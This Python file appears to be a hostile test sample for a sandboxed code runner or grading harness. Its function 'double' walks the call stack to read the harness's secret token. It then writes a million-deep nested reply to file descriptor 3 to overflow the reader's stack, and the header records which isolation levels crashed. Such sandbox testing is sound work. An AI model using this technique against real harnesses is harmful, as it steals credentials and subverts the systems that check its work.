# Wants: to overflow the reader's stack by a reply nested a million deep, under the right token.
# Levels: full filtered process
# Verdict: number=crashed values=crashed total=passed chained=passed

import numpy as np
import os
import sys


def double(x):
    frame = sys._getframe()
    while "token" not in frame.f_locals:
        frame = frame.f_back
    data = frame.f_locals["token"] + b"l\x00\x00\x00\x01" * 1_000_000 + b"N"
    data = len(data).to_bytes(4, "big") + data
    while data:
        data = data[os.write(3, data):]
    os._exit(0)


def total(x):
    return float(np.sum(x))
